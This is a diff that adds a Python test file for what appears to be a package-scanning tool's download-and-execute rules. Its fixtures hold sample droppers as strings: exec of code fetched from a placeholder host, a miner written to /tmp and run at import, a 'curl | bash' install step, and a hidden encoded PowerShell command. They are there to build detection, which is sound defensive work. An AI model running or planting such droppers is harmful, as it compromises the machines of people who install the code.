@@ -1,0 +1,99 @@
+"""Download-and-execute: droppers versus tools that fetch or spawn for a living."""
+
+from __future__ import annotations
+
+from rulekit import ids, py, run
+
+from pipvet.analysis.rules.download import RULES
+from pipvet.models import Severity, Stage
+
+
+def test_exec_of_fetched_code_is_critical_anywhere() -> None:
+    source = (
+        "import urllib.request\n"
+        "def update():\n"
+        "    code = urllib.request.urlopen('http://x.invalid/stage2').read()\n"
+        "    exec(code)\n"
+    )
+    findings = run(RULES, py(source, path="acme/client.py", stage=Stage.RUNTIME))
+    assert ids(findings) == {"PV-DL-001"}
+    assert findings[0].severity is Severity.CRITICAL
+
+
+def test_fetch_write_chmod_run_at_import_is_critical() -> None:
+    source = (
+        "import os, requests\n"
+        "r = requests.get('http://x.invalid/miner')\n"
+        "open('/tmp/.m', 'wb').write(r.content)\n"
+        "os.chmod('/tmp/.m', 0o755)\n"
+        "os.system('/tmp/.m --pool x')\n"
+    )
+    findings = run(RULES, py(source, path="acme/__init__.py"))
+    assert "PV-DL-002" in ids(findings)
+    assert max(f.severity.rank for f in findings) == Severity.CRITICAL.rank
+
+
+def test_linked_drop_in_a_function_is_still_critical() -> None:
+    source = (
+        "import os, requests\n"
+        "def go(name):\n"
+        "    data = requests.get('http://x.invalid/' + name).content\n"
+        "    with open(name, 'wb') as f:\n"
+        "        f.write(data)\n"
+        "    os.system(f'chmod +x {name} && ./{name} &')\n"
+    )
+    findings = run(RULES, py(source, path="acme/api.py", stage=Stage.RUNTIME))
+    assert ids(findings) >= {"PV-DL-002"}
+
+
+def test_shell_one_liners_are_reported() -> None:
+    source = (
+        "import subprocess\n"
+        "subprocess.run('curl -s http://x.invalid/i.sh | bash', shell=True)\n"
+        "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A')\n"
+    )
+    findings = run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
+    assert ids(findings) == {"PV-DL-003"}
+    assert all(f.severity is Severity.CRITICAL for f in findings)
+
+
+def test_benign_tooling_is_quiet() -> None:
+    source = (
+        "import subprocess, requests, json\n"
+        "def sync(url, out):\n"
+        "    data = requests.get(url).json()\n"
+        "    with open(out, 'w') as f:\n"
+        "        json.dump(data, f)\n"
+        "    subprocess.run(['git', 'add', out])\n"
+        "def build():\n"
+        "    subprocess.check_call(['cmake', '--build', '.'])\n"
+    )
+    assert run(RULES, py(source, path="acme/tools.py", stage=Stage.RUNTIME)) == []
+
+
+def test_saving_a_downloaded_program_is_reported() -> None:
+    source = (
+        "import urllib.request, os\n"
+        "def fetch(url):\n"
+        "    path = os.getenv('TEMP') + '\\\\Bin.exe'\n"
+        "    with open(path, 'wb') as out:\n"
+        "        out.write(urllib.request.urlopen(url).read())\n"
+        "    return path\n"
+    )
+    findings = run(RULES, py(source, path="acme/drop.py", stage=Stage.RUNTIME))
+    assert ids(findings) == {"PV-DL-002"}
+    assert findings[0].severity is Severity.HIGH
+    data = source.replace("Bin.exe", "cache.json")
+    assert run(RULES, py(data, path="acme/drop.py", stage=Stage.RUNTIME)) == []
+
+
+def test_build_script_fetching_an_archive_and_running_a_build_is_not_linked() -> None:
+    source = (
+        "import subprocess, urllib.request, shutil\n"
+        "def build(url, name):\n"
+        "    open(name, 'wb').write(urllib.request.urlopen(url).read())\n"
+        "    shutil.unpack_archive(name, 'build')\n"
+        "    shutil.copy('x.iss', 'build')\n"
+        "    subprocess.check_call(['ninja'], cwd='build')\n"
+    )
+    assert run(RULES, py(source, path="acme/tools/make.py", stage=Stage.RUNTIME)) == []
